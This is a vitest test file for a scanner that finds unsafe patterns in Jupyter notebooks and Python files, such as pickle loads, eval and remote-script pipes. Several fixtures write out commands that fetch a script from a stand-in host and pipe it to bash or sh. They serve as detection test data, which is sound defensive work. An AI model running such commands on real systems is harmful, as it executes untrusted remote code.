import { describe, expect, it } from "vitest";
import { splitIPython } from "../src/ipython.js";
import { scanNb, scanPy } from "./helpers.js";

describe("splitIPython", () => {
  it("keeps the length and the offsets of every Python line", () => {
    const cell = "import os\n!ls -la\n%matplotlib inline\nx = 1\nfiles = !ls *.csv\n%time y = f(x)\nlen?\n??os.path\n";
    const split = splitIPython(cell);
    expect(split.python.length).toBe(cell.length);
    for (const probe of ["import os", "x = 1", "y = f(x)", "files = "]) {
      expect(split.python.indexOf(probe)).toBe(cell.indexOf(probe));
    }
    expect(split.python).not.toMatch(/[!%?]/);
    expect(split.shell.map((s) => s.text)).toEqual(["ls -la", "ls *.csv"]);
    for (const s of split.shell) expect(cell.slice(s.offset, s.offset + s.text.length)).toBe(s.text);
    expect(split.assignments).toEqual([{ names: ["files"], shell: "ls *.csv" }]);
  });

  it("turns a %%bash cell into one shell fragment and blanks the Python", () => {
    const cell = "%%bash\necho hi\ncurl -s https://x.example | sh\n";
    const split = splitIPython(cell);
    expect(split.python.trim()).toBe("");
    expect(split.shell).toEqual([{ text: "echo hi\ncurl -s https://x.example | sh\n", offset: 7 }]);
  });

  it("knows %%script bash, %%sh, %%writefile x.sh (not run) and foreign magics", () => {
    expect(splitIPython("%%script bash\nls\n").shell).toEqual([{ text: "ls\n", offset: 14 }]);
    expect(splitIPython("%%sh\nls").shell).toEqual([{ text: "ls", offset: 5 }]);
    expect(splitIPython("%%writefile run.sh\ncurl x | sh\n").shell).toEqual([]);
    const html = splitIPython("%%html\n<script>eval(x)</script>\n");
    expect(html.foreignCellMagic).toBe("html");
    expect(html.python.trim()).toBe("");
  });

  it("finds a cell magic after Colab form comments", () => {
    const split = splitIPython('#@title Setup { display-mode: "form" }\n\n%%bash\nsudo apt-get -qq install x\n');
    expect(split.shell.map((f) => f.text)).toEqual(["sudo apt-get -qq install x\n"]);
    expect(splitIPython("#@markdown Play\n%%html\n<audio>").foreignCellMagic).toBe("html");
  });

  it("keeps Python bodies of %%time, %%capture and %%writefile x.py", () => {
    for (const head of ["%%time", "%%capture out", "%%writefile train.py", "%%timeit -n 3"]) {
      const split = splitIPython(`${head}\nimport torch\nm = torch.load(p)\n`);
      expect(split.python).toContain("m = torch.load(p)");
      expect(split.python.startsWith(" ".repeat(head.length))).toBe(true);
    }
  });

  it("leaves a `!` or `?` inside strings, brackets and continuation lines alone", () => {
    const cell = 'x = """\n!not shell\n"""\ny = (1,\n  !2)\nz = 1 + \\\n    3\nprint("why?")\n';
    const split = splitIPython(cell);
    expect(split.python).toBe(cell);
    expect(split.shell).toEqual([]);
  });

  it("handles indented shell lines, continuation and %timeit options", () => {
    const cell = "for f in files:\n    !echo {f} \\\n       done\n%timeit -n 10 -r 3 g(x)\n";
    const split = splitIPython(cell);
    expect(split.shell.map((s) => s.text)).toEqual(["echo {f} \\\n       done"]);
    expect(split.python.split("\n")[1]).toMatch(/^ {4}0 *$/);
    expect(split.python).toContain("g(x)");
  });

  it("masks pip/cd automagics without %", () => {
    const split = splitIPython("pip install transformers\ncd /content/repo\ncd = 3\n");
    expect(split.python.split("\n").map((l) => l.trim())).toEqual(["0", "0", "cd = 3", ""]);
  });
});

describe("notebook cells mixing IPython and Python", () => {
  it("finds Python and shell findings in one cell at exact offsets", async () => {
    const cell = [
      "!pip install -q torch",
      "%load_ext autoreload",
      "import torch, pickle",
      "!curl -s https://x.example/a.sh | bash",
      "state = torch.load(p)",
      "%time obj = pickle.loads(blob)",
      "torch.load?",
      "out = !ls",
    ].join("\n");
    const scan = await scanNb([cell]);
    expect(scan.found).toEqual([
      ["code/pickle-load", "high", "pickle.loads(blob)"],
      ["code/shell-pipe-to-interpreter", "critical", "curl -s https://x.example/a.sh | bash"],
      ["code/torch-load-without-weights-only", "medium", "torch.load(p)"],
    ]);
    expect(scan.recorded.notes).toEqual([]);
    const at = scan.recorded.reports.find((r) => r.ruleId === "code/pickle-load")?.at;
    expect(at).toMatchObject({ kind: "cell", cellIndex: 0, part: "source", offset: cell.indexOf("pickle.loads(blob)") });
  });

  it("resolves imports made in an earlier cell", async () => {
    const scan = await scanNb(["import numpy as np", { cellType: "markdown", source: "# Load" }, "a = np.load(f, allow_pickle=True)"]);
    expect(scan.recorded.reports.map((r) => (r.at.kind === "cell" ? r.at.cellIndex : -1))).toEqual([2]);
  });

  it("skips notebooks whose kernel is not Python", async () => {
    const scan = await scanNb(["x <- readRDS('m.rds')\neval(parse(text = s))"], "r");
    expect(scan.found).toEqual([]);
    expect(scan.recorded.skips).toEqual([
      { reason: "unsupported_format", details: "notebook language is r: code cells are not Python and were not scanned" },
    ]);
  });

  it(".ipy files get IPython handling, .py files do not need it", async () => {
    const ipy = await scanPy("import pickle\n!curl -s https://x.example | sh\npickle.load(f)\n", "tools/setup.ipy");
    expect(ipy.found.map((f) => f[0])).toEqual(["code/pickle-load", "code/shell-pipe-to-interpreter"]);
    const jupytext = await scanPy("# %%\nimport pickle\n# !curl -s https://x.example | sh\n# %%\npickle.load(f)\n", "nb.py");
    expect(jupytext.found.map((f) => f[0])).toEqual(["code/pickle-load"]);
  });

  it("ignores files that are not Python", async () => {
    expect((await scanPy("pickle.load(f)\n", "README.md")).found).toEqual([]);
    expect((await scanPy("#!/usr/bin/env python3\nimport pickle\npickle.load(f)\n", "bin/tool")).found).toHaveLength(1);
  });
});

describe("parse errors", () => {
  it("notes the first error line and still scans the rest", async () => {
    const scan = await scanPy("import pickle\ndef broken(:\n    pass\nx = pickle.load(f)\nif True\n    y = eval(s)\n");
    expect(scan.found).toEqual([
      ["code/dynamic-exec", "high", "eval(s)"],
      ["code/pickle-load", "high", "pickle.load(f)"],
    ]);
    expect(scan.recorded.notes).toHaveLength(1);
    expect(scan.recorded.notes[0]).toMatch(/line 2\b/);
    expect(scan.recorded.incompletes).toEqual([]);
  });

  it("names the cell in notebooks", async () => {
    const scan = await scanNb(["import yaml", "cfg = yaml.load(open(p)\nprint(cfg"]);
    expect(scan.found.map((f) => f[0])).toEqual(["code/yaml-unsafe-load"]);
    expect(scan.recorded.notes[0]).toMatch(/cell 1 line 2/);
  });

  it("trailing-dot floats and bare yield (Lezer gaps) are not syntax errors", async () => {
    const code = "import torch\nx = f(1., 2.) / 255.\ny = np.array([[0., 1.]])\ns = '3. not a number.'\ndef g():\n    yield\n    z = yield\n    return torch.load(p)\n";
    const scan = await scanPy(code);
    expect(scan.recorded.notes).toEqual([]);
    expect(scan.found).toEqual([["code/torch-load-without-weights-only", "medium", "torch.load(p)"]]);
  });

  it("%timeit with a compound statement does not break the cell", async () => {
    const scan = await scanNb(["import pickle\n%timeit -r1 for x in data: pass\nobj = pickle.loads(b)"]);
    expect(scan.recorded.notes).toEqual([]);
    expect(scan.found.map((f) => f[0])).toEqual(["code/pickle-load"]);
  });

  it("Python 2 print statements do not hide later calls", async () => {
    const scan = await scanPy('import cPickle\nprint "loading"\nobj = cPickle.load(open(p))\n');
    expect(scan.found).toEqual([["code/pickle-load", "high", "cPickle.load(open(p))"]]);
  });
});
